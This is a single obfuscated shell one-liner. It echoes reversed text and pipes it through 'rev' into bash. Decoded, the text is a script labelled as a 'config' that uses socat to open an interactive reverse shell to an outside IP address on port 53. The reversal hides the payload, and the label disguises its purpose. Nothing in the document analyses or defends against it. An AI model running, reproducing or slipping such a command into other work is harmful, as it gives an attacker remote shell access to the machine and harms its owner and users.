echo '
35:32.001.15.891:pct enas,tnigis,distes,rredts,ytp,'\''il- hsab'\'':cexe tacos
hs/nib/!#
2v 8579 gifnoc #' | rev | bash